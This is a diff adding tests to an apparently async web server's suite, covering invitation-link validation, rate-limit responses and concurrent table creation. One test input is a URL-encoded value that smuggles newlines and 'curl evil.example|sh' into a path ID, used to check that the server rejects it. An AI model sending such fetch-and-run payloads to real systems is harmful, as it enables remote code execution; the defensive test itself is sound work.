@@ -192,6 +192,12 @@ class TestTexts:
         heard = await ask(server, "POST", f"/api/tables/{table}/seat", {"cut": cut}, **aki)
         assert status(heard) == expected, heard
 
+    @pytest.mark.parametrize("id", ["x%0A%0Acurl%20evil.example%7Csh", "%1B[2J", "x" * 65, "%3Cb%3E", "%E9%B6%B4"])
+    async def test_invitations_show_only_what_can_be_one(self, server: Serving, id: str) -> None:
+        heard = await ask(server, "GET", f"/t/{id}")
+        assert status(heard) in (400, 404)
+        assert b"evil" not in heard
+
 
 # --- How much, and how long ---
 
@@ -262,6 +268,7 @@ class TestLimits:
             taps = [await Tap(server.address).open(path, aki) for _ in range(2)]
             heard = await ask(server, "GET", path, **aki)
             assert error_of(heard) == (429, "too-many-streams")
+            assert "retry-after" not in head_of(heard), "to wait alone helps nothing"
             stack.push_async_callback((await Tap(server.address).open(path, ben)).close)
             await taps.pop().close()
             async with asyncio.timeout(5):
@@ -277,12 +284,20 @@ class TestLimits:
         async with serving(tmp_path / "mekuri.db", tables=2) as server:
             aki, ben = await arrive(server), await arrive(server)
             made = [body_of(await ask(server, "POST", "/api/tables", TABLE, **aki))["id"] for _ in range(2)]
-            assert error_of(await ask(server, "POST", "/api/tables", TABLE, **aki)) == (429, "too-many-tables")
+            heard = await ask(server, "POST", "/api/tables", TABLE, **aki)
+            assert error_of(heard) == (429, "too-many-tables")
+            assert "retry-after" not in head_of(heard), "to wait alone helps nothing"
             assert status(await ask(server, "POST", "/api/tables", TABLE, **ben)) == 201
             for method in ("POST", "DELETE"):
                 body: Any = {} if method == "POST" else None
                 assert status(await ask(server, method, f"/api/tables/{made[0]}/seat", body, **aki)) == 200
             assert status(await ask(server, "POST", "/api/tables", TABLE, **aki)) == 201
+
+    async def test_tables_that_one_guest_makes_at_once(self, tmp_path: Path) -> None:
+        async with serving(tmp_path / "mekuri.db", tables=2) as server:
+            aki = await arrive(server)
+            heard = await asyncio.gather(*(ask(server, "POST", "/api/tables", TABLE, **aki) for _ in range(20)))
+            assert sorted(map(status, heard)) == [201] * 2 + [429] * 18
 
 
 # --- What every answer carries ---
